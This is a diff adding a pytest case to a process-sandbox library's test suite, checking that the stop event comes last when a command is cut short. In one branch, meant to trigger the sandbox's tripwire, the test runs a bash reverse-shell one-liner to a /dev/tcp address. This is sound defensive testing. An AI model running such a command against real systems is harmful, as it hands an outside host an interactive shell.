@@ -13,6 +13,7 @@ import stat
 import subprocess
 import sys
 import textwrap
+import threading
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -192,6 +193,25 @@ def test_close_reports_the_processes_it_killed(sb: Sandbox) -> None:
     stop = sb.events()[-1]
     assert isinstance(stop, corral.SandboxStop) and stop.reason == "closed"
     assert [p.cmdline for p in stop.leftover] == [["sleep", "60"]], stop
+
+
+@pytest.mark.parametrize("how", ["closed from another thread", "terminated by a tripwire"])
+def test_the_stop_is_the_last_event_even_when_it_cuts_a_command_short(how: str) -> None:
+    # A reader of the events file takes sandbox.stop as the end; the command it cut short has its
+    # exec.exit written before it, not after.
+    if how == "closed from another thread":
+        sb = Sandbox(offline(), keep_workspace=False)
+        threading.Timer(0.5, sb.close).start()
+        command = "sleep 30"
+    else:
+        sb = Sandbox(Policy.from_dict({"version": 1}), keep_workspace=False)
+        command = "sleep 0.3; bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
+    r = sb.exec(command, timeout=20)
+    sb.close(wait=True)
+    events = sb.events()
+    assert r.exit_code == 137, show(r)
+    assert isinstance(events[-1], corral.SandboxStop), [e.type for e in events[-3:]]
+    assert any(isinstance(e, ExecExit) for e in events[:-1])
 
 
 def test_close_removes_the_cgroups(sb: Sandbox, cgroup_dirs: Callable[[str], list[str]]) -> None:
